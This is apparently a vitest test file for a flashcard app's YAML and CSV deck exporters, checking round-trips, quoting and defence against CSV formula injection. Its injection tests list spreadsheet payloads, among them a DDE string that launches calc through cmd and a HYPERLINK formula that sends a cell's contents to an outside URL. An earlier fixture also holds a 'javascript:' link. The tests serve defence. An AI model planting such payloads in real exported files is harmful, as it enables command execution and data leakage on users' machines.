import { fileURLToPath } from 'node:url';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import exampleJson from '../../../docs/examples/capitals.json?raw';
import exampleYaml from '../../../docs/examples/capitals.deck.yaml?raw';
import { compileContentDir } from '../../../scripts/compile-decks';
import { parseCloze } from './cloze';
import { deckToCsv, deckToYaml, exportFileName } from './deck-export';
import { parseDeckText } from './deck-parse';
import { deckSchema, type Card, type Deck } from './deck.schema';
import { parseImport } from './import';
import { deckOf, sides } from './import/test-helpers';

const CONTENT_DIR = fileURLToPath(new URL('../../../content', import.meta.url));

let decks: Deck[] = [];
beforeAll(async () => {
  const compiled = await compileContentDir(CONTENT_DIR);
  expect(compiled.problems).toEqual([]);
  decks = [
    ...compiled.decks,
    deckOf(parseImport({ text: exampleYaml, fileName: 'capitals.deck.yaml' })),
    deckOf(parseImport({ text: exampleJson, fileName: 'capitals.json' }))
  ];
  expect(decks.length).toBeGreaterThanOrEqual(6);
});

/** A deck whose text needs quoting in YAML and in CSV (the schema trims each text's ends). */
const AWKWARD: Deck = deckSchema.parse({
  id: 'awkward-text',
  title: 'Text: quotes, "marks", #hashes',
  description: "Spaces  inside, spaces at a line's end and a colon: here.  \n  An indented line, 'single' quotes.",
  language: 'pt-BR',
  tags: ['2020', 'true', 'null', 'multi word tag'],
  cards: [
    { id: 'comma', type: 'basic', front: 'Bolivia, seat of government', back: 'La Paz, "de facto"' },
    {
      id: 'newlines',
      type: 'reverse',
      front: 'Line one\nLine two\n\nAfter a blank line',
      back: '- a list\n- of *two*',
      tags: ['europe', 'asia']
    },
    {
      id: 'long',
      type: 'typed',
      front: `${'A long sentence that YAML folds onto several lines, with  two spaces. '.repeat(4)}End`,
      answer: '=SUM(A1:A2)',
      accept: ['@home', '- dash', '#hash', "it's"]
    },
    { id: 'yaml-words', type: 'choice', front: 'yes', answer: 'no', options: ['no', 'off', '~', '1e3'] },
    { id: 'cloze-hint', type: 'cloze', text: '{{Berlin::a city, "on" the Spree}} is in {{Germany}}: yes.' },
    { id: 'statement', type: 'truefalse', front: '`<b>` is *bold*; [x](javascript:alert(1))', answer: true },
    { id: 'unicode', type: 'basic', front: 'Côte d’Ivoire — 🇨🇮', back: 'Yamoussoukro\u00a0(capital)\ttab' }
  ]
});

describe('deckToYaml', () => {
  it('reads back as the same deck, for every deck in content/ and the example decks', () => {
    for (const deck of decks) {
      const text = deckToYaml(deck);
      const parsed = parseDeckText(text, exportFileName(deck, 'yaml'));
      expect(parsed.problems, deck.id).toEqual([]);
      expect(parsed.deck, deck.id).toEqual(deck);
    }
  });

  it('imports in the app as the same deck, detected by its file name', () => {
    for (const deck of decks) {
      const result = parseImport({ text: deckToYaml(deck), fileName: exportFileName(deck, 'yaml') });
      expect(result.format).toBe('factdeck-yaml');
      expect(deckOf(result)).toEqual(deck);
    }
  });

  it('keeps text that needs quoting exactly', () => {
    const parsed = parseDeckText(deckToYaml(AWKWARD), 'awkward.deck.yaml');
    expect(parsed.problems).toEqual([]);
    expect(parsed.deck).toEqual(AWKWARD);
  });

  it('starts with a comment, writes sources inline and has no anchors or aliases', () => {
    const deck = decks.find((d) => d.sources?.length)!;
    const text = deckToYaml(deck);
    expect(text.startsWith('# Exported from Factdeck\n')).toBe(true);
    expect(text).toMatch(/^sources:\n {2}- id: /m);
    expect(text).not.toMatch(/(?:^|\s)[&*][a-z]/im);
    expect(text).toContain(`date: '${deck.sources![0].date}'`);
  });
});

/** The front and back each card should become, worked out without the exporter's code. */
function expectedRows(card: Card): [string, string][] {
  if (card.type === 'cloze') {
    const cloze = parseCloze(card.text);
    if (!cloze.ok) throw new Error(cloze.error);
    return Array.from({ length: cloze.deletions }, (_, asked) => {
      let n = 0;
      const front = cloze.parts
        .map((p) => (typeof p === 'string' ? p : n++ === asked ? `[${p.hint ?? '…'}]` : p.answer))
        .join('');
      const deletion = cloze.parts.filter((p) => typeof p !== 'string')[asked];
      return [front, typeof deletion === 'string' ? '' : deletion.answer];
    });
  }
  if (card.type === 'truefalse') return [[card.front, card.answer ? 'True' : 'False']];
  if (card.type === 'basic' || card.type === 'reverse') return [[card.front, card.back]];
  return [[card.front, card.answer]];
}

function importCsv(deck: Deck) {
  return parseImport({ text: deckToCsv(deck), format: 'csv', fileName: exportFileName(deck, 'csv') });
}

describe('deckToCsv', () => {
  it('has a header and one row per card, or per cloze deletion, that import back with the same sides', () => {
    for (const deck of decks) {
      const csv = deckToCsv(deck);
      expect(csv.split('\r\n', 1)[0]).toBe('front,back,tags');
      const expected = deck.cards.flatMap(expectedRows);
      expect(Papa.parse(csv.trim()).data.length - 1, deck.id).toBe(expected.length);
      const imported = deckOf(importCsv(deck));
      expect(imported.cards.every((c) => c.type === 'basic')).toBe(true);
      expect(sides(imported), deck.id).toEqual(expected);
    }
  });

  it('spells out each kind of card as the world capitals sample shows', () => {
    const deck = decks.find((d) => d.id === 'world-capitals')!;
    expect(sides(deckOf(importCsv(deck)))).toEqual([
      ['What is the capital of Australia?', 'Canberra'],
      ['Canada', 'Ottawa'],
      ['The capital of Peru is […] and the capital of Chile is Santiago.', 'Lima'],
      ['The capital of Peru is Lima and the capital of Chile is […].', 'Santiago'],
      ['[a city on the River Spree] is the capital of Germany.', 'Berlin'],
      ['Type the capital of the United States.', 'Washington, D.C.'],
      ['Which city is the capital of Kenya?', 'Nairobi'],
      ['Which city is the capital of Brazil?', 'Brasília'],
      ['Sydney is the capital of Australia.', 'False'],
      ['Cairo is the capital of Egypt.', 'True']
    ]);
  });

  it('quotes commas, quote marks and line breaks so they read back as written', () => {
    const csv = deckToCsv(AWKWARD);
    expect(csv).toContain('"Bolivia, seat of government","La Paz, ""de facto"""');
    const imported = deckOf(importCsv(AWKWARD));
    // The importer trims each field, as it does for any CSV.
    expect(sides(imported)).toEqual(AWKWARD.cards.flatMap(expectedRows).map(([f, b]) => [f.trim(), b.trim()]));
    expect(imported.cards[1]).toMatchObject({ front: 'Line one\nLine two\n\nAfter a blank line' });
  });

  it('writes all of a card’s tags in one column, separated by spaces', () => {
    const rows = Papa.parse<string[]>(deckToCsv(AWKWARD).trim()).data;
    expect(rows[1]).toEqual(['Bolivia, seat of government', 'La Paz, "de facto"', '']);
    expect(rows[2][2]).toBe('europe asia');
    const tagged = deckToCsv({ ...AWKWARD, cards: [{ ...AWKWARD.cards[0], tags: ['multi word', 'x'] }] });
    expect(Papa.parse<string[]>(tagged.trim()).data[1][2]).toBe('multi_word x');
  });
});

describe('CSV injection (issue 21)', () => {
  const FORMULAS = [
    '=HYPERLINK("https://example.com/?x="&A1, "Click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    "'=already quoted",
    "''@twice",
    "'plain quote stays"
  ];
  const hostile: Deck = {
    ...AWKWARD,
    cards: FORMULAS.map((text, i) => ({
      id: `f${i}`,
      type: 'basic' as const,
      front: text,
      back: `${text} (back)`,
      tags: ['-tag', '=tag']
    }))
  };

  it('starts no exported cell with a formula character: each gets a leading quote mark', () => {
    const rows = Papa.parse<string[]>(deckToCsv(hostile).trim()).data.slice(1);
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[0][0]).toBe(`'${FORMULAS[0]}`);
    expect(rows[4][0]).toBe(`''=already quoted`);
    expect(rows[6][0]).toBe("'plain quote stays");
    expect(rows[0][2]).toBe("'-tag =tag");
  });

  it('reads its own export back exactly: the quote mark it added is taken off again', () => {
    const imported = deckOf(importCsv(hostile));
    expect(imported.cards.map((c) => (c.type === 'basic' ? [c.front, c.back] : []))).toEqual(
      FORMULAS.map((f) => [f, `${f} (back)`])
    );
    expect(imported.cards[0].tags).toEqual(['-tag', '=tag']);
  });

  it('reads a spreadsheet\'s text prefix the same way in any CSV or TSV: "\'=x" is the text "=x"', () => {
    const csv = deckOf(parseImport({ text: "'=1+1,'-3\n'hello,''+x\n", format: 'csv' }));
    expect(csv.cards.map((c) => (c.type === 'basic' ? [c.front, c.back] : []))).toEqual([
      ['=1+1', '-3'],
      ["'hello", "'+x"]
    ]);
    const tsv = deckOf(parseImport({ text: "'@a\t'=b\n", format: 'tsv' }));
    expect(tsv.cards[0]).toMatchObject({ front: '@a', back: '=b' });
  });
});

describe('exportFileName', () => {
  it('names the file after the deck id', () => {
    expect(exportFileName({ id: 'world-capitals' }, 'yaml')).toBe('world-capitals.deck.yaml');
    expect(exportFileName({ id: 'world-capitals' }, 'csv')).toBe('world-capitals.csv');
  });
});
